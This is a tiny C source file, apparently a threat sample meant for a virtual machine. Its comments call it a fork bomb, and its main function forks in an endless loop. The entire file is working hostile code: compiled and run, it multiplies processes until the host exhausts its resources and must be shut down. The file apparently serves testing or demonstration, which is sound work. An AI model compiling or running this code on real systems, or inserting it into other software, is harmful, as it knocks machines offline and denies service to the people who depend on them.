// Every process forks for ever and nobody waits. Must be stopped with the VM.
// Threat: the fork bomb of the shells.
#include <unistd.h>

int main(void) {
    for (;;) fork();
}
